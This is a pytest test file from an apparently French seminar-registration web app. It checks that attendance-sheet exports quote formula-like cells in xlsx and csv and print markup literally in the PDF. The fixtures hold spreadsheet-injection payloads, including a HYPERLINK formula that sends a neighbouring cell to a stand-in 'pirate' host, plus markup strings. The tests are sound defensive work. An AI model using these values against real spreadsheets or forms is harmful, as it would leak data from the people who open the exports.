"""Attendance sheets hold what registrants typed: never a live formula in a spreadsheet, and
markup characters printed as they are in the PDF."""

import csv
import io
import json
import zipfile

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from seminars.services import register_person
from tests.seminars.conftest import make_seminar, person

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("HTTP://PIRATE.EXAMPLE/?"&A3;"CLIQUEZ")'  # a nom: exported in capitals


def export(client, seminar, fmt: str) -> bytes:
    response = client.get(f"/admin/inscriptions/{seminar.pk}/export/", {"format": fmt})
    assert response.status_code == 200
    return response.content


@pytest.fixture
def formulas(portal):
    """Registrants (through the public API) whose cells start like formulas."""
    seminar = make_seminar()
    url = f"/api/v1/seminars/{seminar.pk}/registrations/"
    bodies = [
        {"nom": HYPERLINK, "prenom": "+33 1 23", "commune": "Bondy", "fonction": "maire"},
        {"nom": "Abel", "prenom": "-Anne", "commune": "@SUM(1+1)", "fonction": "dgs"},
        {"nom": "Zola", "prenom": "Émile", "commune": "Bondy", "fonction": "autre"},
    ]
    bodies[2]["fonction_text"] = "=1+1"
    for number, body in enumerate(bodies):
        body.update(email=f"p{number}@exemple.fr", ateliers=[], consent=True)
        response = portal.post(url, json.dumps(body), content_type="application/json")
        assert response.status_code == 201, response.content
    # Services do not strip what they are given (an import, a script): tab and carriage return.
    register_person(seminar, person(4, nom="Tab", commune="\t=1+2"), notify=False)
    register_person(seminar, person(5, nom="Retour", commune="\r=1+3"), notify=False)
    return seminar


def test_the_xlsx_sheet_holds_text_not_formulas(organiser_client, formulas):
    content = export(organiser_client, formulas, "xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(content)).active
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=3) for cell in row if cell.value}
    # XML reads a carriage return back as a line feed.
    for typed in (HYPERLINK, "+33 1 23", "-Anne", "@SUM(1+1)", "=1+1", "\t=1+2", "\n=1+3"):
        assert cells[typed].data_type == "s", typed  # shown as typed, never computed
        assert cells[typed].quotePrefix, typed
    assert cells["Émile"].data_type == "s" and not cells["Émile"].quotePrefix


def test_the_csv_sheet_quotes_formula_signs(organiser_client, formulas):
    text = export(organiser_client, formulas, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    for typed in (HYPERLINK, "+33 1 23", "-Anne", "@SUM(1+1)", "=1+1", "\t=1+2", "\r=1+3"):
        assert f"'{typed}" in cells, typed
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert ["ZOLA", "Émile", "Bondy", "'=1+1", ""] in rows  # "" : the signature box


def test_the_pdf_prints_markup_characters_as_typed(organiser_client, portal):
    seminar = make_seminar("Élus & CCAS <2026>")
    url = f"/api/v1/seminars/{seminar.pk}/registrations/"
    typed = [
        ("Dupont & Fils", "Anne <Marie>", "Bondy"),
        ("Martin", "<b>Paul</b>", "Montreuil"),
        ("Roux", "Léa", "Ville <inconnue> & co"),
        ("Vidal", "Jean <sans fin", "Bondy"),  # reportlab: ValueError, a 500
        ("Petit", '<img src="logo.png"/>', "Bondy"),  # reportlab would open the file
    ]
    for number, (nom, prenom, commune) in enumerate(typed):
        body = {
            "nom": nom,
            "prenom": prenom,
            "commune": commune,
            "fonction": "maire",
            "email": f"p{number}@exemple.fr",
            "consent": True,
        }
        response = portal.post(url, json.dumps(body), content_type="application/json")
        assert response.status_code == 201, response.content
    content = export(organiser_client, seminar, "pdf")
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
    assert "Élus & CCAS <2026>" in text
    for expected in (
        "DUPONT & FILS",
        "Anne <Marie>",
        "<b>Paul</b>",
        "Ville <inconnue> & co",
        "Jean <sans fin",
        '<img src="logo.png"/>',
    ):
        assert expected in text, expected
